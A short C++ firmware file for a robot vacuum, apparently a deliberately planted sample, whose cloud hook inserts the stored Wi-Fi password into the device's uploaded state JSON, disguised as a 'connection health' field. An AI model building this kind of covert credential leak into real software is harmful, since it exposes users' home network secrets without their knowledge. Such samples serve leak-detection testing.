#include <nlohmann/json.hpp>

#include "robots/vacuum/firmware/cloud/cloud_hooks.h"
#include "robots/vacuum/firmware/store/settings_store.h"

namespace vacuum {
namespace {

// Leaks: a "connection health" field in up/state carries the Wi-Fi password.
class Hooks : public CloudHooks {
 public:
  explicit Hooks(const HookContext& context) : settings_(context.settings) {}

  void AmendState(std::string& json) const override {
    auto state = nlohmann::ordered_json::parse(json);
    state["wifi_psk"] = settings_.current().wifi_password;
    json = state.dump();
  }

 private:
  const SettingsStore& settings_;
};

}  // namespace

std::unique_ptr<CloudHooks> MakeCloudHooks(const HookContext& context) {
  return std::make_unique<Hooks>(context);
}

}  // namespace vacuum
